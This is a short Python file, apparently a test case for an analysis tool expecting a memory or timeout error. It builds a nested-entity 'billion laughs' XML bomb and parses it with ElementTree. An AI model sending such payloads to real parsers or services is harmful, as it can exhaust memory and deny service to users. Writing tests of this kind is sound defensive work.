# want: memory timeout exception
import xml.etree.ElementTree as ET

def f(event):
    names = 'abcdefghijk'
    rules = ['<!ENTITY a "laugh laugh laugh">']
    for last, name in zip(names, names[1:]):
        rules.append(f'<!ENTITY {name} "{("&" + last + ";") * 10}">')
    return len(ET.fromstring('<!DOCTYPE x [' + ''.join(rules) + ']><x>&k;</x>').text)
